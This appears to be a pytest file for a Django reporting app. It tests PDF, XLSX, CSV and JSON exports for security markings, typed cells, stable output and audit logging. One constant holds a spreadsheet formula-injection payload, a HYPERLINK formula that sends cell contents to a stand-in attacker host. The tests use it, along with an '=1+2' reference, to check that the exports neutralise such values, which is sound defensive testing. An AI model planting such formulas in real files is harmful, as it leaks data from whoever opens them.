"""The report files: PDF readable with pdftotext and marked on every page; XLSX
with one sheet per table and typed cells; CSV and XLSX with formulas
neutralised; JSON stable and documented; every export marked and audited."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from icihub.core.access import Marking
from icihub.core.models import AuditEntry
from icihub.reports import exports
from icihub.reports import report as reports
from icihub.reports.scope import Filters, Scope
from icihub.training import services as training

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def pdf_text(content: bytes) -> str:
    if shutil.which("pdftotext") is None:
        pytest.fail("pdftotext is missing (poppler-utils; `make test` installs it)")
    result = subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=content, capture_output=True, check=True
    )
    return result.stdout.decode("utf-8")


@pytest.fixture
def annual(year, nato_staff):
    return reports.build_annual(Scope.for_user(nato_staff, year.period))


def test_pdf_renders_readable_with_the_marking_on_every_page(annual):
    content = exports.render_pdf(annual)
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    pages = [p for p in text.split("\f") if p.strip()]
    assert len(pages) >= 3  # cover, summary, tables
    label = str(annual.marking.label)
    for number, page in enumerate(pages, start=1):
        assert label in page, f"page {number} carries no marking"
    flat = " ".join(text.split())
    assert "courses and activities were carried out at the Centre, 6 officers from ICI and" in flat
    assert (
        "GCC countries were trained and 2 instructors and experts travelled to the Centre" in flat
    )
    assert "Definitions" in flat
    assert "A person trained twice in the period counts once" in flat  # a definition
    assert "Officers trained by country group" in flat  # a table


def test_pdf_loads_nothing_from_outside(annual, monkeypatch):
    fetched = []
    from weasyprint.urls import URLFetcher

    original = URLFetcher.fetch

    def spy(self, url, *args, **kwargs):
        fetched.append(url)
        return original(self, url, *args, **kwargs)

    monkeypatch.setattr(URLFetcher, "fetch", spy)
    exports.render_pdf(annual)
    assert all(url.startswith("data:") for url in fetched), fetched


def test_xlsx_has_one_sheet_per_table_with_typed_cells(annual):
    book = load_workbook(io.BytesIO(exports.render_xlsx(annual)))
    label = str(annual.marking.label)
    assert book.sheetnames[0] == "Summary"
    assert "Definitions" in book.sheetnames
    assert len(book.sheetnames) >= len(annual.tables) + 2
    for sheet in book.worksheets:
        assert sheet["A1"].value == label
        assert sheet.oddHeader.center.text == label
    summary = book["Summary"]
    assert isinstance(summary["B3"].value, dt.datetime)  # the period's first day, a date
    assert summary["B3"].value.date() == annual.period.start
    sheet = book[_title(book, "Officers trained by country")]
    rows = {row[0]: row[1:] for row in sheet.iter_rows(min_row=4, values_only=True)}
    assert rows["Kuwait"][:2] == (4, 6)
    assert isinstance(rows["Kuwait"][0], int)
    assert rows["Total"][:2] == (6, 8)
    scores = book[_title(book, "Evaluation scores by course")]
    means = [r[2] for r in scores.iter_rows(min_row=4, values_only=True) if r[0] != "Total"]
    assert means and all(isinstance(v, (int, float)) for v in means)
    assert sorted(means) == [4, 4.17]


def _title(book, title):
    return title[:31] if title[:31] in book.sheetnames else None


def test_csv_and_xlsx_neutralise_a_hostile_name(year, nato_staff, centre_staff):
    training.update_course(centre_staff, year.courses["c1"], {"title": HOSTILE})
    report = reports.build_annual(Scope.for_user(nato_staff, year.period))
    text = exports.render_csv(report).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert any(cell.startswith("'=HYPERLINK") or "– =HYPERLINK" in cell for cell in cells)
    book = load_workbook(io.BytesIO(exports.render_xlsx(report)))
    values = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert any("HYPERLINK" in v for v in values)
    for value in values:
        assert not value.startswith(("=", "+", "-", "@")), value
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)


def test_hostile_session_label_is_neutralised_too(year, nato_staff, centre_staff):
    """A label that starts with the hostile text (a course code is not free
    text, but the session reference starts the session's label)."""
    from icihub.training.models import Session

    Session.objects.filter(pk=year.sessions["s2"].pk).update(reference="=1+2")
    report = reports.build_annual(Scope.for_user(nato_staff, year.period))
    text = exports.render_csv(report).decode("utf-8-sig")
    assert "'=1+2 – " in text
    assert ",=1+2" not in text


def test_json_is_stable_sorted_and_complete(annual):
    first = json.loads(exports.render_json(annual))
    again = json.loads(exports.render_json(annual))
    assert first == again
    raw = exports.render_json(annual).decode()
    assert list(first) == sorted(first)
    assert raw.index('"definitions"') < raw.index('"figures"')  # keys in sorted order
    assert first["schema"] == "icihub.report/1"
    assert first["kind"] == "annual"
    assert first["marking"]["code"] == annual.marking.value
    assert first["figures"]["trained"] == {
        "label": "Officers trained",
        "unit": "count",
        "value": 6,
    }
    assert set(first["definitions"]) >= {"trained", "attendances", "travellers", "events"}
    by_country = next(t for t in first["tables"] if t["key"] == "trained_by_country")
    assert by_country["dimension"]["key"] == "country"
    assert {r["key"]: r["values"]["trained"] for r in by_country["rows"]} == {
        "KWT": 4,
        "QAT": 1,
        "SAU": 1,
    }
    assert by_country["total"]["values"] == {"trained": 6, "attendances": 8}
    execution = next(t for t in first["tables"] if t["key"] == "programme_execution")
    assert execution["total"]["values"]["percent"] == 67
    assert first["period"] == {
        "start": annual.period.start.isoformat(),
        "end": annual.period.end.isoformat(),
        "label": annual.period.label,
        "year": None,
    }


def test_every_export_is_marked_and_audited(year, annual, centre_staff):
    # NATO staff see the NATO-only event: their report is NATO UNCLASSIFIED.
    assert annual.marking == Marking.NATO
    # Centre staff do not; Kuwait's programme is releasable to the partner concerned.
    annual = reports.build_annual(Scope.for_user(centre_staff, year.period))
    assert annual.marking == Marking.REL_PARTNER
    for file_format in exports.FORMATS:
        before = AuditEntry.objects.filter(action="export").count()
        result = exports.export(annual, file_format)
        assert result.marking == Marking.REL_PARTNER
        entry = AuditEntry.objects.filter(action="export").order_by("-id").first()
        assert AuditEntry.objects.filter(action="export").count() == before + 1
        assert entry.actor == centre_staff
        assert entry.changes["format"] == file_format
        assert entry.changes["marking"] == "rel_partner"
    csv_text = exports.render_csv(annual).decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("# " + str(Marking.REL_PARTNER.label))


def test_a_report_of_public_records_only_is_marked_public(year, nato_staff):
    """Without the programme, requests and NATO-only event, the data are public."""
    from icihub.dialogue.models import Event
    from icihub.programmes.models import PartnerRequest, Programme

    Event.objects.exclude(marking=Marking.PUBLIC).update(marking=Marking.PUBLIC)
    PartnerRequest.objects.all().delete()
    for programme in Programme.objects.all():
        programme.delete()
    report = reports.build_country(
        Scope.for_user(nato_staff, year.period, Filters(country=year.people["k1"].country)),
        year.people["k1"].country,
    )
    assert report.marking == Marking.PUBLIC


def test_the_country_report_files(year, nato_staff):
    kuwait = year.people["k1"].country
    report = reports.build_country(
        Scope.for_user(nato_staff, year.period, Filters(country=kuwait)), kuwait
    )
    data = json.loads(exports.render_json(report))
    assert data["kind"] == "country" and data["country"] == "KWT"
    assert data["figures"]["trained"]["value"] == 4
    assert data["figures"]["items_planned"]["value"] == 3
    assert data["figures"]["items_delivered"]["value"] == 2
    assert data["figures"]["requests_waiting"]["value"] == 2
    assert "4 officers from Kuwait were trained" in data["summary"]
    text = " ".join(pdf_text(exports.render_pdf(report)).split())
    assert "4 officers from Kuwait were trained" in text


def test_the_json_document_is_documented(annual):
    """docs/reports.md describes every key of the JSON report, figure and table."""
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[3] / "docs" / "reports.md").read_text()
    data = annual.as_dict()
    for key in data:
        assert f'"{key}"' in doc, key
    for key in reports.figures.FIGURES:
        assert f"`{key}`" in doc, key
    for spec in reports.TABLES:
        assert f"`{spec.key}`" in doc, spec.key
